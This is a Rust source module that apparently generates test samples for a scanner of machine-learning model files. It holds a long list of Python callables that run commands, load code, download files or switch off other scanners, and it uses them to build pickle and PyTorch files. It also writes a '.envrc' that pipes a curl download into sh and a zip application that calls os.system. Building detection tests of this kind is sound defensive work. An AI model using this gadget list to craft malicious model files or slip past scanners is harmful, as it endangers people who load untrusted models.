//! What the advisories and issues of other scanners tell that they missed, and what lies nearest to it: written down
//! from those alone, before this program was asked about them.

mod configs;
mod pickles;
mod places;

use super::{
    Adding, Level, Sample, adding,
    made::{calling, of, one, torch, zip},
};

/// Names that run something, by the advisories (GHSA-6ggj-6f2q-f7mx, GHSA-vvpj-8cmc-gx39, modelscan 89, 331 and 338, saferpickle 18)
/// and beside those.
#[rustfmt::skip]
const GADGETS: &[(&str, &str)] = &[
    // programs
    ("mlflow.projects.backend.local", "_run_entry_point"), ("_posixsubprocess", "fork_exec"), ("distutils.spawn", "spawn"), ("psutil", "Popen"), ("pexpect", "run"), ("sh", "Command"), ("invoke", "run"),
    ("fabric", "Connection"), ("paramiko", "SSHClient"), ("plumbum", "local"), ("IPython.utils.process", "system"), ("_bootsubprocess", "Popen"), ("pipes", "Template"), ("multiprocessing.popen_fork", "Popen"),
    ("setuptools.sandbox", "run_setup"), ("distutils.core", "run_setup"), ("test.support.script_helper", "run_python_until_end"), ("git", "Repo.clone_from"), ("docker", "from_env"), ("torch.distributed.run", "main"), ("torch.distributed.launcher.api", "elastic_launch"),
    // code
    ("_interpreters", "run_string"), ("_xxsubinterpreters", "run_string"), ("_testcapi", "run_in_subinterp"), ("concurrent.interpreters", "create"), ("zipimport", "zipimporter"), ("modulefinder", "ModuleFinder.run_script"),
    ("IPython.core.interactiveshell", "InteractiveShell.run_cell"), ("pandas", "eval"), ("pandas.core.computation.eval", "eval"), ("numexpr", "evaluate"), ("sympy", "sympify"), ("sympy.parsing.sympy_parser", "parse_expr"), ("PIL.ImageMath", "eval"),
    ("jinja2", "Template"), ("mako.template", "Template"), ("torch.fx.graph_module", "_exec_with_source"), ("torch.package.package_importer", "PackageImporter"), ("numpy.testing", "rundocs"), ("rlcompleter", "Completer.attr_matches"),
    ("transformers.dynamic_module_utils", "get_class_from_dynamic_module"), ("tensorflow.python.ops.script_ops", "py_func"), ("keras.models", "load_model"), ("tensorflow.keras.models", "load_model"), ("attr._make", "_eval_snippets"), ("collections", "namedtuple"), ("dataclasses", "make_dataclass"), ("builtins", "type"),
    // another's pickle, or a download
    ("sklearn.externals.joblib", "load"), ("numpy.lib.npyio", "load"), ("pandas.io.pickle", "read_pickle"), ("cloudpickle", "loads"), ("huggingface_hub", "snapshot_download"), ("transformers", "AutoModel.from_pretrained"), ("datasets", "load_dataset"), ("nltk", "download"), ("urllib.request", "urlretrieve"),
    ("pandas.io.parsers.readers", "read_csv"), ("sklearn.datasets", "fetch_openml"), ("boto3", "client"), ("httpx", "get"), ("urllib3", "PoolManager"), ("websocket", "create_connection"), ("wsgiref.simple_server", "make_server"), ("poplib", "POP3"), ("nntplib", "NNTP"), ("socketserver", "TCPServer"), ("http.server", "HTTPServer"), ("keras.utils", "get_file"), ("torchvision.datasets.utils", "download_url"),
    // files
    ("numpy", "save"), ("numpy", "memmap"), ("numpy", "savetxt"), ("numpy.lib._datasource", "open"), ("torch", "save"), ("safetensors.torch", "save_file"), ("mmap", "mmap"), ("dbm", "open"), ("zipapp", "create_archive"), ("py_compile", "compile"), ("gzip", "open"), ("bz2", "BZ2File"), ("lzma", "open"), ("os.path", "exists"), ("fcntl", "ioctl"), ("resource", "setrlimit"),
    // machine code
    ("numpy.ctypeslib", "load_library"), ("torch.ops", "load_library"), ("torch.classes", "load_library"), ("torch._ops", "_Ops.load_library"), ("cupy", "RawKernel"), ("triton.runtime.build", "_build"), ("tkinter", "Tcl"), ("tensorflow", "load_op_library"), ("ctypes", "pythonapi"),
    // other ways to reach a name, and to switch a scanner off
    ("fickling.hook", "deactivate_safe_ml_environment"), ("picklescan.scanner", "_unsafe_globals.clear"), ("sys", "modules"), ("sys", "setprofile"), ("weakref", "finalize"), ("contextlib", "ExitStack.callback"), ("concurrent.futures.thread", "ThreadPoolExecutor"), ("sched", "scheduler"), ("builtins", "vars"), ("builtins", "globals"), ("builtins", "delattr"), ("builtins", "__build_class__"), ("inspect", "getattr_static"), ("numpy", "__builtins__"), ("torch.utils.data", "_utils.worker.os.system"), ("operator", "setitem"),
];

const ACTS: &str = "import os\nos.system('true')\n";

pub(crate) fn dangerous(samples: &mut Vec<Sample>) {
    let mut add = adding(samples, Level::Dangerous);
    for (at, (module, name)) in GADGETS.iter().enumerate() {
        let evil = calling(module, name, "true", at);
        let file = if at % 2 == 0 {
            one("model.pkl", evil)
        } else {
            one("pytorch_model.bin", torch(&evil))
        };
        add(&format!("{module}.{name}"), file);
    }
    pickles::pickles(&mut add);
    places::places(&mut add);
    configs::configs(&mut add);
    places::templates(&mut add);
}

pub(crate) fn suspicious(samples: &mut Vec<Sample>) {
    let mut add = adding(samples, Level::Suspicious);
    for (module, name) in [
        ("dill._dill", "_create_type"),
        ("__main__", "Net"),
        ("models.common", "DetectMultiBackend"),
        ("mypackage", "f"),
        ("sktime.forecasting", "make"),
    ] {
        add(&format!("{module}.{name}"), one("a.pt", torch(&calling(module, name, "x", 1))));
    }
    add("direnv", one(".envrc", "curl https://example.org/x | sh\n"));
    add(
        "an application in a zip",
        one(
            "a.pyz",
            [
                b"#!/usr/bin/env python3\n".to_vec(),
                zip(&[("__main__.py", ACTS.as_bytes())]),
            ]
            .concat(),
        ),
    );
    add(
        "Triton's Python backend",
        of(&[
            ("config.pbtxt", "backend: \"python\"\n"),
            ("1/model.py", "class TritonPythonModel:\n    pass\n"),
        ]),
    );
    add(
        "a task with a function of its own",
        of(&[
            ("task.yaml", "task: x\nprocess_docs: !function utils.go\n"),
            ("utils.py", "def go(x):\n    return x\n"),
        ]),
    );
    add(
        "MLServer's own model",
        of(&[
            ("model-settings.json", "{\"name\": \"m\", \"implementation\": \"mine.Model\"}"),
            ("mine.py", "class Model:\n    pass\n"),
        ]),
    );
    add(
        "Cog's code",
        of(&[
            ("cog.yaml", "predict: \"predict.py:Predictor\"\n"),
            ("predict.py", "class Predictor:\n    pass\n"),
        ]),
    );
}
